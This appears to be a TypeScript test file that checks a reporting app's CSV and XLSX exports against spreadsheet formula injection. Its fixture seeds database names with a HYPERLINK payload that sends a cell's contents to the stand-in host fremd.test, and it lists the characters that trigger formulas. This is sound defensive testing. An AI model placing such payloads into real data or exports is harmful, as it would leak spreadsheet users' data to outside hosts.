import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { contract } from '#src/app/contract.ts';
import type { Endpoint } from '#src/platform/contract.ts';
import { defaultLimits } from '#src/platform/server/spreadsheet/limits.ts';
import { openZipParts } from '#src/platform/server/spreadsheet/zip-parts.ts';
import { startTestApp, type TestApp } from './support/app.ts';
import { kreis } from './support/fixture.ts';
import { asAdmin } from './support/relation.ts';

/** What a spreadsheet could take for a formula, as it begins. */
const hostile = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const formula = (begin: string) => `${begin}HYPERLINK("http://fremd.test?x="&A1)`;

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
  await app.admit();
  // Names that stand in the tables and are given by people.
  await asAdmin(app, async (tx) => {
    const traeger = await tx.all(
      sql<{ id: string }>`select id from traeger where kreis_id = ${kreis} order by id`,
    );
    for (const [at, { id }] of traeger.entries())
      await tx.run(
        sql`update traeger set name = ${formula(hostile[at % hostile.length] ?? '=')} where id = ${id}`,
      );
    await tx.run(sql`update codeliste set bezeichnung = ${formula('=')}, bezeichnung_en = ${formula('@')}
      where kreis_id = ${kreis} and rang % 2 = 0`);
    await tx.run(sql`update codeliste set bezeichnung = ${formula('－')}, bezeichnung_en = ${formula('\t')}
      where kreis_id = ${kreis} and rang % 2 = 1`);
    await tx.run(sql`update region set name = ${formula('+')} where kreis_id = ${kreis}`);
    for (const [at, begin] of hostile.entries()) {
      const stelle = await tx.one(sql<{ id: string }>`
        insert into stelle (kreis_id, name, art) values (${kreis}, ${`${formula(begin)} ${at}`}, 'sonstige') returning id`);
      await tx.run(sql`
        insert into angebot (kreis_id, stelle_id, name, art, ebene, beschreibung, erfasst_von)
        values (${kreis}, ${stelle.id}, ${`${formula(begin)} ${at}`}, 'bildung', 'kreisweit', ${formula(begin)}, ${app.konto.koordination})`);
    }
  });
});
afterAll(() => app.close());

const day = 'stichtag=2023-04-01';
const range = 'von=2023-01&bis=2023-04';
/** Every export of tables, as it is asked for. */
const tables: Readonly<Record<string, (format: string) => string>> = {
  exportFallzahlen: (format) => `auswertung/fallzahlen/${format}?${day}`,
  exportKontakte: (format) => `auswertung/kontakte/${format}?${range}`,
  exportMerkmal: (format) => `auswertung/merkmal/${format}?merkmal=geschlecht&${day}`,
  exportKontaktmerkmal: (format) =>
    `auswertung/kontaktmerkmal/${format}?merkmal=kontaktweg&von=2023-01-01&bis=2023-04-30`,
  exportBaustein3: (format) => `auswertung/baustein3/${format}`,
  exportStellen: (format) => `auswertung/stellen/${format}?${day}`,
  exportAngebot: (format) => `angebot_export?format=${format}`,
  exportProtokoll: () => 'protokoll/csv',
};
/** Offered as text table alone. */
const onlyText = new Set(['exportProtokoll']);
const sheets = Object.keys(tables).filter((name) => !onlyText.has(name));

async function fetchFile(name: string, format: string): Promise<Buffer> {
  const reply = await app
    .as(onlyText.has(name) ? 'datenschutz' : 'koordination')
    .get(`/kreis/${kreis}/${tables[name]?.(format)}`);
  expect([name, format, reply.status, reply.body]).toEqual([name, format, 200, undefined]);
  return Buffer.from(reply.bytes);
}

test('every operation that exports a table is looked at here', () => {
  const exporting = Object.entries(contract as Record<string, Endpoint>)
    .filter(
      ([, { file, path }]) => file !== undefined && (/\{format\}/.test(path) || /spreadsheet|csv/.test(file)),
    )
    .map(([name]) => name);
  expect(Object.keys(tables).toSorted()).toEqual(exporting.toSorted());
});

test.each(Object.keys(tables))('no cell of %s as text table begins like a formula', async (name) => {
  const text = (await fetchFile(name, 'csv')).toString('utf8');
  const cells = parse(text, { delimiter: ';', bom: true, relax_column_count: true }).flat();
  const begins = cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?[\d.,]+ ?%?$/.test(cell));
  expect(begins).toEqual([]);
});

const parts =
  /^(?:\[content_types\]\.xml|_rels\/\.rels|xl\/workbook\.xml|xl\/_rels\/workbook\.xml\.rels|xl\/styles\.xml|xl\/worksheets\/sheet\d+\.xml)$/;

test.each(sheets)('the sheet of %s holds what is seen and nothing else', async (name) => {
  const zip = await openZipParts(await fetchFile(name, 'xlsx'), defaultLimits);
  // No document properties, so no author; no comments, caches, links, macros.
  expect(zip.names.filter((part) => !parts.test(part))).toEqual([]);
  for (const part of zip.names) {
    const entry = zip.find(part);
    if (!entry) throw new Error(part);
    const xml = Buffer.concat(await Array.fromAsync(zip.read(entry))).toString('utf8');
    expect(xml).not.toMatch(
      /<f[ >/]|hidden=|state="(?:hidden|veryHidden)"|<(?:definedName|externalReference|hyperlink|dc:creator)\b/,
    );
    expect(xml).not.toContain('t="str"');
    expect(xml).not.toContain('TargetMode="External"');
  }
});

test('what was typed comes through, only disarmed', async () => {
  const text = (await fetchFile('exportAngebot', 'csv')).toString('utf8');
  const cells: string[] = parse(text, { delimiter: ';', bom: true }).flat();
  for (const [at, begin] of hostile.entries()) {
    const typed = `${formula(begin)} ${at}`;
    expect(cells).toContain(`'${typed}`);
  }
});
